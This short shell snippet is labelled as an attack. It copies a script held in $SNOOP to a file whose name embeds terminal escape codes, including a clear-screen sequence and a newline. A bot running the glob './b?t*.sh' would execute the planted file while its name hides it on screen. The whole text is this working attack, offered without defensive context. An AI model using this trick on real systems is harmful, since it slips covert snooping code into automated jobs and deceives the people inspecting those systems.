# attack: a file whose name commands a terminal
# bot: ./b?t*.sh
cp "$SNOOP" "$(printf './b\033t\033[2J\n.sh')"
